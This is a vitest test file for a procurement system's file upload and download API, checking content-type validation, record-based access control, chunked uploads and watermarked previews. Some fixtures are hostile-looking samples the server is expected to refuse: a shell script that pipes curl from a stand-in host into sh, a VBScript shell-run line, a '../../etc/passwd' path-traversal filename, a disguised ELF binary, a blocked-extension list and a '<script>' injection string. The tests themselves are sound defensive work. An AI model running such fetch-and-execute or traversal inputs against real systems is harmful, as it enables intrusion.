// The files API at the spec's paths: uploads checked for extension and content, downloads as
// attachments with nosniff, access that follows the record a file belongs to, zips, encrypted
// batch deletes, temporary URLs, and chunked large-file uploads that resume.
import { constants, createHash, createPublicKey, publicEncrypt, randomBytes } from 'node:crypto';
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import yauzl from 'yauzl';
import { startTestServer, type TestServer } from './testing';

type Row = Record<string, unknown>;
let server: TestServer;

// Callers are real users (their ids filled in below): a temporary URL is checked against the
// rights its user has when it is opened.
const buyer = { userId: 0, userName: 'buyer' };
const otherBuyer = { userId: 0, userName: 'other-buyer' };
let supplierA = { userId: 0, side: 'supplier' as const, supplierId: 0 };
let supplierB = { userId: 0, side: 'supplier' as const, supplierId: 0 };
let supplierAId = 0;

const PDF = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');

beforeAll(async () => {
  server = await startTestServer();
  const save = async (body: Row) =>
    (await server.post<Row>('/api/srm/v1/srmSupplierInfoRestful/saveOrUpdate', body)).body.data;
  const base = {
    supplierType: 'PRODUCTION',
    contactName: '联系人',
    contactMobile: '13800000000',
    contactEmail: 'a@example.cn',
  };
  supplierAId = (await save({ ...base, supplierName: '文件测试供应商甲', creditCode: '91320505MA1NH7QX3R' }))
    .supplierId as number;
  const supplierBId = (
    await save({ ...base, supplierName: '文件测试供应商乙', creditCode: '91330212MA2GQ3RT8L' })
  ).supplierId as number;
  const user = async (userName: string, extra: Row = {}) => {
    const saved = await server.post<Row>('/api/base/v1/baseUserRestful/saveOrUpdate', {
      userName,
      userFullName: userName,
      userType: 'INTERNAL',
      languageCode: 'CN',
      ...extra,
    });
    expect(saved.body.status, saved.body.msg).toBe('S');
    return saved.body.data.userId as number;
  };
  buyer.userId = await user('file_buyer');
  otherBuyer.userId = await user('file_other_buyer');
  const external = (supplierId: number) => ({ userType: 'EXTERNAL', supplierId });
  supplierA = {
    ...supplierA,
    supplierId: supplierAId,
    userId: await user('file_sup_a', external(supplierAId)),
  };
  supplierB = {
    ...supplierB,
    supplierId: supplierBId,
    userId: await user('file_sup_b', external(supplierBId)),
  };
});
afterAll(async () => server?.close());

async function upload(
  name: string,
  content: Buffer,
  actor: Row = buyer,
  path = '/api/file/v2/file/upload',
  fields: Record<string, string> = {},
) {
  const form = new FormData();
  for (const [key, value] of Object.entries(fields)) form.append(key, value);
  form.append('files', new Blob([content]), name);
  const response = await fetch(server.url + path, {
    method: 'POST',
    headers: { 'x-test-actor': JSON.stringify(actor) },
    body: form,
  });
  return {
    httpStatus: response.status,
    body: (await response.json()) as { status: string; msg: string; data: Row[] },
  };
}

async function download(id: number, actor: Row = buyer) {
  return fetch(`${server.url}/api/file/v2/file/download?id=${id}`, {
    method: 'POST',
    headers: { 'x-test-actor': JSON.stringify(actor) },
  });
}

describe('upload and download', () => {
  it('stores a file and gives it back as an attachment with its original name and nosniff', async () => {
    const { body } = await upload('采购合同.pdf', PDF, buyer, '/api/file/v2/file/upload', {
      fileDesc: '合同扫描件',
      path: 'contract',
    });
    expect(body.status, body.msg).toBe('S');
    expect(body.data[0]).toMatchObject({
      originalFileName: '采购合同.pdf',
      suffixName: 'pdf',
      fileSize: PDF.length,
      fileDesc: '合同扫描件',
    });
    expect(body.data[0]!.fileName).toMatch(/^[0-9a-f]{64}\.pdf$/);
    const response = await download(body.data[0]!.id as number);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('content-disposition')).toContain(
      `filename*=UTF-8''${encodeURIComponent('采购合同.pdf')}`,
    );
    expect(Buffer.from(await response.arrayBuffer()).equals(PDF)).toBe(true);
  });

  it('refuses an extension that does not match the content, and programs whatever their name', async () => {
    const disguised = await upload('发票.pdf', PNG);
    expect(disguised.httpStatus).toBe(415);
    expect(disguised.body.msg).toBe('文件内容与扩展名 .pdf 不符');
    expect((await upload('setup.exe', Buffer.from('MZ\x90\x00'))).httpStatus).toBe(415);
    expect((await upload('readme.txt', Buffer.from('MZ\x90\x00\x00binary'))).httpStatus).toBe(415);
    expect(
      (await upload('../../etc/passwd.txt', Buffer.from('plain text'))).body.data[0]!.originalFileName,
    ).toBe('passwd.txt');
  });

  it('accepts only the listed types: programs and scripts are refused whatever their name', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
    const vbs = Buffer.from('CreateObject("WScript.Shell").Run "calc"\r\n');
    for (const name of [
      'invoice.hta',
      'run.wsf',
      'a.vbe',
      'settings.reg',
      'shortcut.lnk',
      'tool.py',
      'noext',
    ]) {
      const refused = await upload(name, vbs);
      expect(refused.httpStatus, name).toBe(415);
      expect(refused.body.status).toBe('E');
      expect(refused.body.msg, name).toMatch(/^当前文件扩展名不能上传附件：\./);
    }
    for (const name of ['notes.txt', 'prices.csv', 'data.json', 'part.step']) {
      const refused = await upload(name, script);
      expect(refused.httpStatus, name).toBe(415);
      expect(refused.body.msg).toBe('程序和脚本不能作为附件上传');
    }
    const bom = await upload('notes.txt', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), script]));
    expect(bom.body.msg).toBe('程序和脚本不能作为附件上传');
    const form = new FormData();
    form.append('files', new Blob([script]), 'notes.csv');
    const english = await fetch(`${server.url}/api/file/v2/file/upload`, {
      method: 'POST',
      headers: { 'x-test-actor': JSON.stringify(buyer), 'SAAF-Language': 'EN' },
      body: form,
    });
    expect(english.status).toBe(415);
    expect(((await english.json()) as { msg: string }).msg).toBe('Programs and scripts cannot be uploaded');
    // Text must be text throughout, not only in its first block.
    const nul = Buffer.concat([Buffer.from('a,b\n'.repeat(50_000)), Buffer.from([0]), Buffer.from('c\n')]);
    expect((await upload('big.csv', nul)).httpStatus).toBe(415);
    // A program disguised as a document.
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(600)]);
    expect((await upload('drawing.dwg', elf)).body.msg).toBe('程序和脚本不能作为附件上传');
    // Chinese text in GBK or UTF-8 is text.
    const csv = Buffer.concat([
      Buffer.from('物料,数量\r\n螺栓,10\r\n'),
      Buffer.from([0xc2, 0xdd, 0xcb, 0xa8]),
    ]);
    expect((await upload('物料.csv', csv)).body.status).toBe('S');
  });

  it('answers JSON with status E instead of a file when a download is refused', async () => {
    const response = await download(999999);
    expect(response.status).toBe(404);
    expect(await response.json()).toEqual({ status: 'E', msg: '文件不存在或无权访问', data: null });
  });

  it('takes only images on the image endpoint', async () => {
    const pdf = await upload('scan.pdf', PDF, buyer, '/api/file/v2/images/upload');
    expect(pdf.body.msg).toBe('图片类型必须是.gif,jpeg,jpg,png,bmp中的一种');
    expect((await upload('logo.png', PNG, buyer, '/api/file/v2/images/upload')).body.status).toBe('S');
  });
});

describe('access follows the record', () => {
  it('belongs to its uploader until a save links it; then whoever reads the record reads the file', async () => {
    const { body } = await upload('营业执照.pdf', PDF);
    const id = body.data[0]!.id as number;
    expect((await download(id, otherBuyer)).status).toBe(404);
    const supplier = (
      await server.post<Row>('/api/srm/v1/srmSupplierInfoRestful/findById', { supplierId: supplierAId })
    ).body.data;
    const saved = await server.post<Row>(
      '/api/srm/v1/srmSupplierInfoRestful/saveOrUpdate',
      { supplierId: supplierAId, versionNum: supplier.versionNum, attachmentIds: String(id) },
      { actor: buyer },
    );
    expect(saved.body.status, saved.body.msg).toBe('S');
    expect((await download(id, otherBuyer)).status).toBe(200);
    expect((await download(id, supplierA)).status).toBe(200);
    expect((await download(id, supplierB)).status).toBe(404);
    const listed = await server.post<Row[]>(
      '/api/file/v2/file/listBaseFile',
      { ids: String(id) },
      { actor: supplierB },
    );
    expect(listed.body.data).toEqual([]);
  });

  it('lists a file with the name of the user who uploaded it', async () => {
    const created = await server.post<Row>('/api/base/v1/baseUserRestful/saveOrUpdate', {
      userName: `uploader_${Date.now()}`,
      userFullName: '上传测试员',
      userType: 'INTERNAL',
      languageCode: 'CN',
    });
    expect(created.body.status, created.body.msg).toBe('S');
    const uploader = { userId: created.body.data.userId as number, userName: 'uploader' };
    const { body } = await upload('检验报告.pdf', PDF, uploader);
    const listed = await server.post<Row[]>(
      '/api/file/v2/file/listBaseFile',
      { ids: String(body.data[0]!.id) },
      { actor: uploader },
    );
    expect(listed.body.data).toEqual([
      expect.objectContaining({ originalFileName: '检验报告.pdf', createdByName: '上传测试员' }),
    ]);
    // A caller that is no user (the test policy's header allows one) has no name to show.
    const ghost = { userId: 999_999, userName: 'ghost' };
    const anonymous = await upload('无名.pdf', PDF, ghost);
    const unnamed = await server.post<Row[]>(
      '/api/file/v2/file/listBaseFile',
      { ids: String(anonymous.body.data[0]!.id) },
      { actor: ghost },
    );
    expect(unnamed.body.data[0]!.createdByName).toBeNull();
  });

  it("refuses to attach somebody else's file to a record", async () => {
    const { body } = await upload('别人的文件.pdf', PDF, otherBuyer);
    const supplier = (
      await server.post<Row>('/api/srm/v1/srmSupplierInfoRestful/findById', { supplierId: supplierAId })
    ).body.data;
    const saved = await server.post<Row>(
      '/api/srm/v1/srmSupplierInfoRestful/saveOrUpdate',
      {
        supplierId: supplierAId,
        versionNum: supplier.versionNum,
        attachmentIds: `${supplier.attachmentIds},${body.data[0]!.id}`,
      },
      { actor: buyer },
    );
    expect(saved.httpStatus).toBe(400);
    expect(saved.body.msg).toContain(`附件 ${body.data[0]!.id} 不存在或不属于您`);
  });
});

describe('batches and temporary URLs', () => {
  it('zips several files, keeping names apart', async () => {
    const first = (await upload('清单.txt', Buffer.from('第一份'))).body.data[0]!.id;
    const second = (await upload('清单.txt', Buffer.from('第二份'))).body.data[0]!.id;
    const response = await fetch(`${server.url}/api/file/v2/file/batchDownload`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-test-actor': JSON.stringify(buyer) },
      body: JSON.stringify({ ids: `${first},${second}` }),
    });
    expect(response.headers.get('content-type')).toBe('application/zip');
    const zip = Buffer.from(await response.arrayBuffer());
    const entries = await new Promise<Record<string, string>>((resolve, reject) => {
      const found: Record<string, string> = {};
      yauzl.fromBuffer(zip, { lazyEntries: true }, (error, file) => {
        if (error || !file) return reject(error);
        file.on('entry', (entry: yauzl.Entry) =>
          file.openReadStream(entry, (streamError, stream) => {
            if (streamError || !stream) return reject(streamError);
            const chunks: Buffer[] = [];
            stream.on('data', (chunk: Buffer) => chunks.push(chunk));
            stream.on('end', () => {
              found[entry.fileName] = Buffer.concat(chunks).toString('utf8');
              file.readEntry();
            });
          }),
        );
        file.on('end', () => resolve(found));
        file.readEntry();
      });
    });
    expect(entries).toEqual({ '清单.txt': '第一份', '清单 (2).txt': '第二份' });
  });

  it('deletes by ids encrypted with the RSA public key, and refuses plain ids', async () => {
    const id = (await upload('临时.txt', Buffer.from('temp'))).body.data[0]!.id as number;
    const plain = await server.post('/api/file/v2/file/batchDelete', { ids: String(id) }, { actor: buyer });
    expect(plain.httpStatus).toBe(400);
    const key = Buffer.from(
      (await server.post<{ publicKey: string }>('/api/base/v1/auth/publicKey')).body.data.publicKey,
      'base64',
    );
    const publicKey = createPublicKey({ key, format: 'der', type: 'spki' });
    const ids = publicEncrypt(
      { key: publicKey, padding: constants.RSA_PKCS1_OAEP_PADDING, oaepHash: 'sha256' },
      Buffer.from(String(id)),
    ).toString('base64');
    const removed = await server.post('/api/file/v2/file/batchDelete', { ids }, { actor: buyer });
    expect(removed.body).toMatchObject({
      status: 'S',
      msg: '附件删除成功，因附件ID更新，请及时保存业务单据',
    });
    expect((await download(id)).status).toBe(404);
  });

  it('gives a short-lived URL that works without headers, then expires', async () => {
    const id = (await upload('logo.png', PNG)).body.data[0]!.id;
    const url = (await server.post<{ url: string }>('/api/file/v2/file/getFileUrl', { id }, { actor: buyer }))
      .body.data.url;
    const shown = await fetch(server.url + url);
    expect(shown.status).toBe(200);
    expect(shown.headers.get('content-disposition')).toMatch(/^inline/);
    server.clock.travel(11 * 60_000);
    try {
      expect((await fetch(server.url + url)).status).toBe(404);
    } finally {
      server.clock.travel(-11 * 60_000);
    }
    expect((await fetch(server.url + url.replace(/.$/, (c) => (c === 'A' ? 'B' : 'A')))).status).toBe(404);
  });

  it('checks the reader again when the URL is opened: a file gone to another record is refused', async () => {
    const id = (await upload('资质.png', PNG, supplierA)).body.data[0]!.id as number;
    const url = (
      await server.post<{ url: string }>('/api/file/v2/file/getFileUrl', { id }, { actor: supplierA })
    ).body.data.url;
    expect((await fetch(server.url + url)).status).toBe(200);
    // The record the file belongs to changes hands (here straight in the table): the URL given
    // to supplier A no longer shows it.
    await server.database.db.execute(
      sql`update base_attachment set function_id = 'srmSupplierInfo', business_id = ${supplierB.supplierId}
          where attachment_id = ${id}`,
    );
    const refused = await fetch(server.url + url);
    expect(refused.status).toBe(404);
    expect(await refused.json()).toEqual({ status: 'E', msg: '文件不存在或无权访问', data: null });
  });

  it('draws a watermark tile with the text escaped', async () => {
    const response = await fetch(`${server.url}/api/file/v2/images/generateBlankImageWatermark`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-test-actor': JSON.stringify(buyer) },
      body: JSON.stringify({ text: '内部资料 <script>' }),
    });
    expect(response.headers.get('content-type')).toBe('image/svg+xml');
    const svg = await response.text();
    expect(svg).toContain('内部资料 &lt;script&gt;');
    expect(svg).not.toContain('<script>');
  });

  it('previews a PDF as it is (office documents: office-preview.test.ts)', async () => {
    const pdf = (await upload('说明.pdf', PDF)).body.data[0]!.id;
    const shown = await fetch(`${server.url}/api/file/v2/pageoffice/doFilePdfView`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-test-actor': JSON.stringify(buyer) },
      body: JSON.stringify({ id: pdf }),
    });
    expect(shown.status).toBe(200);
    expect(shown.headers.get('content-type')).toBe('application/pdf');
    expect(Buffer.from(await shown.arrayBuffer()).equals(PDF)).toBe(true);
  });

  it('previews a PDF in byte ranges: 206 with the bytes asked, 416 past its end, else the whole', async () => {
    const id = (await upload('分段.pdf', PDF)).body.data[0]!.id as number;
    const size = PDF.length;
    const view = (range?: string, actor: Row = buyer) => pdfView(id, 'query', actor, range ? { range } : {});
    const whole = await view();
    expect(whole.status).toBe(200);
    expect(whole.headers.get('accept-ranges')).toBe('bytes');
    expect(whole.headers.get('content-length')).toBe(String(size));
    expect(Buffer.from(await whole.arrayBuffer()).equals(PDF)).toBe(true);

    const part = await pdfView(id, 'json', buyer, { range: 'bytes=5-12' });
    expect(part.status).toBe(206);
    expect(part.headers.get('content-range')).toBe(`bytes 5-12/${size}`);
    expect(part.headers.get('content-length')).toBe('8');
    expect(part.headers.get('accept-ranges')).toBe('bytes');
    expect(part.headers.get('content-type')).toBe('application/pdf');
    expect(part.headers.get('content-disposition')).toMatch(/^inline;/);
    expect(part.headers.get('x-content-type-options')).toBe('nosniff');
    expect(Buffer.from(await part.arrayBuffer()).equals(PDF.subarray(5, 13))).toBe(true);

    const rest = await view('bytes=40-');
    expect(rest.headers.get('content-range')).toBe(`bytes 40-${size - 1}/${size}`);
    expect(Buffer.from(await rest.arrayBuffer()).equals(PDF.subarray(40))).toBe(true);
    const end = await view('bytes=-6');
    expect(end.status).toBe(206);
    expect(Buffer.from(await end.arrayBuffer()).toString()).toBe('%%EOF\n');

    const past = await view(`bytes=${size}-`);
    expect(past.status).toBe(416);
    expect(past.headers.get('content-range')).toBe(`bytes */${size}`);
    // Several ranges, or a range with a validator this server never gave: the whole file.
    for (const several of [
      await view('bytes=0-1,4-5'),
      await pdfView(id, 'query', buyer, { range: 'bytes=0-1', 'if-range': '"x"' }),
    ]) {
      expect(several.status).toBe(200);
      expect(Buffer.from(await several.arrayBuffer()).equals(PDF)).toBe(true);
    }
    // The reader is checked first: a range of a file the caller may not read is not found.
    expect((await view('bytes=0-1', otherBuyer)).status).toBe(404);
  });

  it('sends a watermarked preview whole, without ranges: each request stamps a copy of its own', async () => {
    const reader = { ...buyer, userName: 'marked-reader' };
    server.runtime.plugins.attachments!.watermarkWith('srmSupplierInfo', async (actor, _record, use) =>
      actor.userName === reader.userName && use === 'VIEW'
        ? { text: '内部资料 marked-reader', opacity: 0.2, angle: 30, fontSize: 18, tiled: false }
        : null,
    );
    const pdf = onePagePdf();
    const { body } = await upload('盖印.pdf', pdf, buyer, '/api/file/v2/file/upload', {
      functionId: 'srmSupplierInfo',
      businessId: String(supplierAId),
    });
    expect(body.status, body.msg).toBe('S');
    const id = body.data[0]!.id as number;
    const marked = await pdfView(id, 'json', reader, { range: 'bytes=0-99' });
    expect(marked.status).toBe(200);
    expect(marked.headers.get('accept-ranges')).toBe('none');
    expect(marked.headers.get('content-range')).toBeNull();
    const copy = Buffer.from(await marked.arrayBuffer());
    expect(copy.length).toBe(Number(marked.headers.get('content-length')));
    expect(copy.length).toBeGreaterThan(pdf.length);
    // Another reader is shown the stored file, in ranges.
    const plain = await pdfView(id, 'json', buyer, { range: 'bytes=0-99' });
    expect(plain.status).toBe(206);
    expect(Buffer.from(await plain.arrayBuffer()).equals(pdf.subarray(0, 100))).toBe(true);
    expect(plain.headers.get('x-srm-watermark')).toBeNull();
  });

  it('serves a signed PDF byte for byte and tells the viewer the watermark to lay over it', async () => {
    const reader = { ...buyer, userName: 'signed-reader' };
    const mark = { text: '仅供查阅 signed-reader', opacity: 0.25, angle: 45, fontSize: 20, tiled: true };
    server.runtime.plugins.attachments!.watermarkWith('srmSupplierInfo', async (actor, _record, use) =>
      actor.userName === reader.userName && use === 'VIEW' ? mark : null,
    );
    // What a signature leaves in a PDF: a /Sig dictionary with the /ByteRange it covers.
    const signed = Buffer.concat([
      onePagePdf(),
      Buffer.from('4 0 obj\n<< /Type /Sig /ByteRange [0 10 20 30] /Contents <00> >>\nendobj\n', 'latin1'),
    ]);
    const { body } = await upload('已签署.pdf', signed, buyer, '/api/file/v2/file/upload', {
      functionId: 'srmSupplierInfo',
      businessId: String(supplierAId),
    });
    expect(body.status, body.msg).toBe('S');
    const id = body.data[0]!.id as number;
    const viewed = await pdfView(id, 'json', reader);
    expect(viewed.status).toBe(200);
    expect(Buffer.from(await viewed.arrayBuffer()).equals(signed)).toBe(true);
    expect(JSON.parse(decodeURIComponent(viewed.headers.get('x-srm-watermark')!))).toEqual(mark);
    // A reader without a watermark rule is told of none.
    const plain = await pdfView(id, 'json', buyer);
    expect(Buffer.from(await plain.arrayBuffer()).equals(signed)).toBe(true);
    expect(plain.headers.get('x-srm-watermark')).toBeNull();
  });
});

/** doFilePdfView as clients call it: POST with the id in the query (`?id=`) or in a JSON body. */
function pdfView(id: number, how: 'query' | 'json', actor: Row, headers: Record<string, string> = {}) {
  return fetch(`${server.url}/api/file/v2/pageoffice/doFilePdfView${how === 'query' ? `?id=${id}` : ''}`, {
    method: 'POST',
    headers: {
      'x-test-actor': JSON.stringify(actor),
      ...(how === 'json' ? { 'content-type': 'application/json' } : {}),
      ...headers,
    },
    ...(how === 'json' ? { body: JSON.stringify({ id }) } : {}),
  });
}

/** A one-page PDF with its cross-reference table: what the watermark can be drawn on. */
function onePagePdf(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>',
  ];
  let pdf = '%PDF-1.4\n';
  const offsets = objects.map((object, n) => {
    const at = pdf.length;
    pdf += `${n + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const xref = pdf.length;
  pdf += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  pdf += offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  pdf += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(pdf, 'latin1');
}

/** The keys of the objects in the server's file store (its disk store: two levels of folders). */
function storedObjects(): string[] {
  const root = join(server.dataDir, 'files');
  const level = (dir: string) =>
    existsSync(dir) ? readdirSync(dir).filter((name) => /^[0-9a-f]{2}$/.test(name)) : [];
  return level(root).flatMap((a) => level(join(root, a)).flatMap((b) => readdirSync(join(root, a, b))));
}

describe('large-file mode', () => {
  const chunkSize = 1024 * 1024;
  const content = Buffer.concat([PDF, randomBytes(chunkSize * 2 + 12345)]);
  const sha256 = createHash('sha256').update(content).digest('hex');
  const uploadId = `test-${randomBytes(8).toString('hex')}`;

  async function chunk(
    index: number,
    actor: Row = buyer,
    id = uploadId,
    fields: Record<string, string> = {},
    bytes = content.subarray(index * chunkSize, (index + 1) * chunkSize),
  ) {
    const form = new FormData();
    for (const [key, value] of Object.entries(fields)) form.append(key, value);
    form.append('uploadId', id);
    form.append('fileName', '图纸包.pdf');
    form.append('totalSize', String(content.length));
    form.append('chunkSize', String(chunkSize));
    form.append('chunkIndex', String(index));
    form.append('sha256', sha256);
    form.append('chunk', new Blob([bytes]), '图纸包.pdf');
    const response = await fetch(`${server.url}/api/largeFile/v1/largeFile/upload`, {
      method: 'POST',
      headers: { 'x-test-actor': JSON.stringify(actor) },
      body: form,
    });
    return (await response.json()) as { status: string; msg: string; data: Row };
  }

  it('resumes an interrupted upload with the missing chunks and checks the SHA-256', async () => {
    expect((await chunk(0)).data).toMatchObject({ done: false, received: [0], chunkCount: 3 });
    expect((await chunk(2)).data).toMatchObject({ done: false, received: [0, 2] });
    expect((await chunk(1, otherBuyer)).status).toBe('E');
    const status = await server.post<Row>(
      '/api/largeFile/v1/largeFile/uploadStatus',
      { uploadId },
      { actor: buyer },
    );
    expect(status.body.data.received).toEqual([0, 2]);
    const last = await chunk(1);
    expect(last.data).toMatchObject({ done: true, sha256 });
    const id = (last.data.attachment as Row).id as number;
    const ranged = await fetch(`${server.url}/api/largeFile/v1/largeFile/download?id=${id}`, {
      headers: { 'x-test-actor': JSON.stringify(buyer), range: 'bytes=100-199' },
    });
    expect(ranged.status).toBe(206);
    expect(ranged.headers.get('content-range')).toBe(`bytes 100-199/${content.length}`);
    expect(Buffer.from(await ranged.arrayBuffer()).equals(content.subarray(100, 200))).toBe(true);
    const whole = await fetch(`${server.url}/api/largeFile/v1/largeFile/downloadBody`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-test-actor': JSON.stringify(buyer) },
      body: JSON.stringify({ id }),
    });
    expect(
      createHash('sha256')
        .update(Buffer.from(await whole.arrayBuffer()))
        .digest('hex'),
    ).toBe(sha256);
  });

  it('links a finished upload to its record like an ordinary one: access follows the record', async () => {
    const linkedId = `test-${randomBytes(8).toString('hex')}`;
    const record = { functionId: 'srmSupplierInfo', businessId: String(supplierAId) };
    // The record goes with the first chunk, as the attachment widget sends it.
    for (const index of [0, 1]) expect((await chunk(index, buyer, linkedId, record)).status).toBe('S');
    const last = await chunk(2, buyer, linkedId);
    expect(last.status, last.msg).toBe('S');
    const info = last.data.attachment as Row;
    expect(info).toMatchObject({ functionId: 'srmSupplierInfo', businessId: supplierAId });
    const get = (actor: Row) =>
      fetch(`${server.url}/api/largeFile/v1/largeFile/download?id=${info.id as number}`, {
        headers: { 'x-test-actor': JSON.stringify(actor) },
      });
    const own = await get(supplierA);
    expect(own.status).toBe(200);
    expect(
      createHash('sha256')
        .update(Buffer.from(await own.arrayBuffer()))
        .digest('hex'),
    ).toBe(sha256);
    expect((await get(otherBuyer)).status).toBe(200);
    const refused = await get(supplierB);
    expect(refused.status).toBe(404);
    expect(((await refused.json()) as { status: string }).status).toBe('E');
    const body = await fetch(`${server.url}/api/largeFile/v1/largeFile/downloadBody`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-test-actor': JSON.stringify(supplierB) },
      body: JSON.stringify({ id: info.id }),
    });
    expect(body.status).toBe(404);
    const listed = await server.post<Row[]>(
      '/api/file/v2/file/listBaseFile',
      { ids: String(info.id) },
      { actor: supplierB },
    );
    expect(listed.body.data).toEqual([]);
  });

  it('refuses at the first chunk an upload naming a record the uploader may not change', async () => {
    const id = `test-${randomBytes(8).toString('hex')}`;
    const record = { functionId: 'srmSupplierInfo', businessId: String(supplierAId) };
    const uploads = await server.count('base_large_upload');
    const refused = await chunk(0, supplierB, id, record);
    expect(refused).toEqual({ status: 'E', msg: '无权修改该单据的附件', data: null });
    expect(await server.count('base_large_upload')).toBe(uploads);
    const status = await server.post(
      '/api/largeFile/v1/largeFile/uploadStatus',
      { uploadId: id },
      { actor: supplierB },
    );
    expect(status.httpStatus).toBe(404);
    // Without naming the record the same file is the uploader's own.
    let last: Awaited<ReturnType<typeof chunk>> | undefined;
    for (const index of [0, 1, 2]) last = await chunk(index, supplierB, id);
    expect(last?.status, last?.msg).toBe('S');
    const info = last!.data.attachment as Row;
    expect(info).toMatchObject({ functionId: null, businessId: null });
    const get = (actor: Row) =>
      fetch(`${server.url}/api/largeFile/v1/largeFile/download?id=${info.id as number}`, {
        headers: { 'x-test-actor': JSON.stringify(actor) },
      });
    expect((await get(supplierB)).status).toBe(200);
    expect((await get(supplierA)).status).toBe(404);
  });

  it('refuses with 415 a large upload whose content is not its extension, and keeps nothing of it', async () => {
    const id = `test-${randomBytes(8).toString('hex')}`;
    const before = new Set(storedObjects());
    const uploads = await server.count('base_large_upload');
    const form = new FormData();
    form.append('uploadId', id);
    form.append('fileName', '图纸包.pdf');
    form.append('totalSize', String(3 * chunkSize));
    form.append('chunkSize', String(chunkSize));
    form.append('chunkIndex', '0');
    form.append('chunk', new Blob([randomBytes(chunkSize)]), '图纸包.pdf');
    const response = await fetch(`${server.url}/api/largeFile/v1/largeFile/upload`, {
      method: 'POST',
      headers: { 'x-test-actor': JSON.stringify(buyer) },
      body: form,
    });
    expect(response.status).toBe(415);
    expect(await response.json()).toEqual({ status: 'E', msg: '文件内容与扩展名 .pdf 不符', data: null });
    expect(await server.count('base_large_upload')).toBe(uploads);
    const status = await server.post(
      '/api/largeFile/v1/largeFile/uploadStatus',
      { uploadId: id },
      { actor: buyer },
    );
    expect(status.httpStatus).toBe(404);
    expect(storedObjects().filter((key) => !before.has(key))).toEqual([]);
  });

  it('keeps no chunk once the file is stored, and never a stored file that has a chunk’s content', async () => {
    // A file whose second chunk is, byte for byte, an ordinary PDF stored before.
    const second = Buffer.concat([PDF, randomBytes(chunkSize - PDF.length)]);
    const file = Buffer.concat([PDF, randomBytes(chunkSize - PDF.length), second, randomBytes(777)]);
    const fileSha = createHash('sha256').update(file).digest('hex');
    const ordinary = await upload('第二块.pdf', second, buyer);
    expect(ordinary.body.status, ordinary.body.msg).toBe('S');
    const before = new Set(storedObjects());
    const id = `test-${randomBytes(8).toString('hex')}`;
    let last: { status: string; msg: string; data: Row } | undefined;
    for (const index of [2, 0, 1]) {
      const form = new FormData();
      form.append('uploadId', id);
      form.append('fileName', '图纸包.pdf');
      form.append('totalSize', String(file.length));
      form.append('chunkSize', String(chunkSize));
      form.append('chunkIndex', String(index));
      form.append(
        'chunk',
        new Blob([file.subarray(index * chunkSize, (index + 1) * chunkSize)]),
        '图纸包.pdf',
      );
      const response = await fetch(`${server.url}/api/largeFile/v1/largeFile/upload`, {
        method: 'POST',
        headers: { 'x-test-actor': JSON.stringify(buyer) },
        body: form,
      });
      last = (await response.json()) as typeof last;
      expect(last!.status, last!.msg).toBe('S');
    }
    expect(last!.data).toMatchObject({ done: true, sha256: fileSha });
    // One new object, the whole file: the chunks are gone.
    expect(storedObjects().filter((key) => !before.has(key))).toEqual([fileSha]);
    // The ordinary file with the second chunk's content is still there.
    const again = await download(ordinary.body.data[0]!.id as number);
    expect(again.status).toBe(200);
    expect(Buffer.from(await again.arrayBuffer()).equals(second)).toBe(true);
  });

  it('joins the last version of a chunk sent twice, and keeps neither version once the file is stored', async () => {
    const id = `test-${randomBytes(8).toString('hex')}`;
    const before = new Set(storedObjects());
    expect((await chunk(0, buyer, id)).data).toMatchObject({ done: false, received: [0] });
    expect((await chunk(1, buyer, id, {}, randomBytes(chunkSize))).data).toMatchObject({ received: [0, 1] });
    expect((await chunk(1, buyer, id)).data).toMatchObject({ done: false, received: [0, 1] });
    expect((await chunk(2, buyer, id)).data).toMatchObject({ done: true, sha256 });
    // Nothing new stays but the file itself: no chunk, neither version of chunk 1.
    expect(storedObjects().filter((key) => !before.has(key) && key !== sha256)).toEqual([]);
  });

  it('refuses a chunk sent again while a node joins the upload, and leaves the chunks it reads', async () => {
    const id = `test-${randomBytes(8).toString('hex')}`;
    await chunk(0, buyer, id);
    await chunk(1, buyer, id);
    // As the node that takes the last chunk marks the upload before it joins the chunks.
    await server.database.db.execute(
      sql`update base_large_upload set received = received || '*,' where upload_id = ${id}`,
    );
    const again = await chunk(1, buyer, id);
    expect(again.status).toBe('E');
    expect(again.msg).toBe('该上传正在完成，请稍候');
    const keys = [0, 1].map((index) =>
      createHash('sha256')
        .update(content.subarray(index * chunkSize, (index + 1) * chunkSize))
        .digest('hex'),
    );
    expect(storedObjects()).toEqual(expect.arrayContaining(keys));
    const status = await server.post(
      '/api/largeFile/v1/largeFile/uploadStatus',
      { uploadId: id },
      { actor: buyer },
    );
    expect(status.httpStatus).toBe(404);
    await server.database.db.execute(sql`delete from base_large_upload where upload_id = ${id}`);
  });

  it('takes the chunks of a new upload in parallel without losing any', async () => {
    const parallelId = `test-${randomBytes(8).toString('hex')}`;
    const answers = await Promise.all([0, 1, 2].map((index) => chunk(index, buyer, parallelId)));
    expect(answers.map((answer) => answer.status)).toEqual(['S', 'S', 'S']);
    const done = answers.find((answer) => answer.data.done);
    expect(done?.data.sha256).toBe(sha256);
  });
});
